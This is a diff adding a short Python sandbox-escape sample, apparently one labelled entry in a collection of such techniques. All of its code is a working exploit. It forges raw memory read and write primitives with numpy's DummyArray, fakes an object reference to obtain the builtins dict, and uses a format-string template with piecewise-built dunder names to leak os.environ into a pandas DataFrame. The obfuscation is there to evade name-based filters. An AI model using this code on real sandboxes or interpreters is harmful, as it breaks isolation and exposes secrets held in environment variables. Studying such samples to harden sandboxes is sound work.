@@ -1,0 +1,35 @@
+# class: format_lookup
+# technique: builtins['getattr'](template, 'format') from the forged builtins dict: the format method taken by a subscripted builtin (builtins dict forged from raw memory with numpy.lib.stride_tricks.DummyArray)
+# goal: read
+import numpy as np
+import pandas as pd
+from numpy.lib.stride_tricks import DummyArray
+
+
+def view(address, size):
+    return np.asarray(DummyArray({"data": (address, False), "shape": (size,), "typestr": "|u1", "version": 3}))
+
+
+def peek(address):
+    return int(view(address, 8).view(np.uint64)[0])
+
+
+def poke(address, value):
+    view(address, 8).view(np.uint64)[0] = value
+
+
+def object_at(address):
+    holder = [None]
+    items = peek(id(holder) + 24)
+    poke(address, peek(address) + 1)
+    poke(items, address)
+    return holder[0]
+
+
+builtin = object_at(peek(id(view) + 24))
+
+u = "_" * 2
+template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"
+
+leak = builtin["getattr"](template, "format")(np.vectorize)
+df = pd.DataFrame({"environ": [leak]})
